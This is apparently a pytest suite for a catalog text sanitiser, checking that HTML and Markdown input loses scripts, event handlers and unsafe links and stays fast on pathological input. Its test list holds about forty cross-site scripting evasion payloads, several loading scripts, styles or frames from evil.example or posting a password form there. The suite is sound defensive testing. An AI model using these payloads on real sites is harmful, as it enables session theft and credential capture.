"""Texts of catalogs that may hold anything."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from platform_manager.catalogs import markup

EVASIONS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='https://x.example' onclick=alert(1) style='position:fixed' class=c id=i>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='/environments/delete'>x</a>",
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=https://evil.example/x.mp4 autoplay></video><audio src=x>",
    "<table background=javascript:alert(1)><td background=x>x",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x onclick=alert(1)>x</x>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://x.example "\' onmouseover=alert(1) ")',
    "```\n</code></pre><script>alert(1)</script>\n```",
]
ALLOWED = {"a": {"href", "title", "rel", "target"}, "abbr": {"title"}, "ol": {"start"}, "td": {"colspan"}}


class Seen(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("markdown", [False, True])
@pytest.mark.parametrize("text", EVASIONS)
def test_nothing_that_acts_or_calls_home_is_left(text: str, markdown: bool) -> None:
    for tag, attributes in Seen(markup.safe_html(text, markdown=markdown)).tags:
        assert tag in markup._TAGS
        assert set(attributes) <= ALLOWED.get(tag, set())
        assert (attributes.get("href") or "https:").startswith(("http:", "https:", "mailto:"))


def test_links_tell_nothing_and_open_beside() -> None:
    made = markup.safe_html("[guide](https://docs.example.org/a?b=1&c)", markdown=True)
    (_, (tag, attributes)) = Seen(made).tags
    assert tag == "a"
    assert attributes == {
        "href": "https://docs.example.org/a?b=1&c",
        "rel": "noopener noreferrer nofollow",
        "target": "_blank",
    }


def test_markdown_becomes_prose() -> None:
    text = "# Web\n\nA *small* `server`.\n\n| a | b |\n|-|-|\n| 1 | 2 |\n\n1. one\n\n<b>bold</b>"
    made = markup.safe_html(text, markdown=True)
    for piece in ("<h1>Web</h1>", "<em>small</em>", "<code>server</code>", "<td>1</td>", "<li>one</li>", "<b>bold</b>"):
        assert piece in made


def test_pictures_leave_their_words() -> None:
    assert "a chart" in markup.safe_html("![a chart](https://x.example/c.png)", markdown=True)


@pytest.mark.parametrize(
    "text",
    [
        "[" * 200_000,
        "[" * 5_000 + "a" * 190_000,
        "<" * 5_000 + "a" * 190_000,
        "> " * 100_000,
        "*a **a " * 30_000,
        "<div>" * 40_000,
        "[a]: https://x.example/" + "x" * 90_000 + "\n\n" + "[a] " * 2_000,
        "<img " * 40_000,
    ],
)
def test_texts_made_to_be_slow_or_to_grow_do_neither(text: str) -> None:
    began = time.process_time()
    assert len(markup.safe_html(text, markdown=True)) <= 2 * markup.MOST_OUTPUT
    markup.summary(text)
    markup.heading(text)
    assert time.process_time() - began < 8


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("# Title\n\nA *small* [server](x). It answers.", "A small server."),
        ("Deploy <b>Orion</b> &amp; more\nRequires networks\n", "Deploy Orion & more Requires networks"),
        ("<p>First one. Second one.</p>", "First one."),
        ("<script>alert(1)</script>\n\nText", "Text"),
        ("![logo](x.png)\n\nVersion 1.2 of a.b.c is here", "Version 1.2 of a.b.c is here"),
        ("", ""),
        ("a < b and c > d", "a < b and c > d"),
    ],
)
def test_a_summary_is_the_first_sentence_as_text(text: str, line: str) -> None:
    assert markup.summary(text) == line


def test_a_summary_is_short() -> None:
    assert len(markup.summary("word " * 200)) <= 300


def test_a_heading_is_found_only_at_the_start() -> None:
    assert markup.heading("<!-- x -->\n\n# The *Web*\n\ntext") == "The Web"
    assert markup.heading("Title\n=====") == "Title"
    assert markup.heading("text\n\n# Later") == ""


def test_halves_of_characters_cost_only_themselves() -> None:
    broken = "Say \ud800 it."
    assert markup.safe_html(broken, markdown=True) == "<p>Say ? it.</p>\n"
    assert markup.safe_html(broken, markdown=False) == "Say ? it."
    assert markup.summary(broken) == "Say ? it."
    assert markup.heading(f"# {broken}") == "Say ? it."
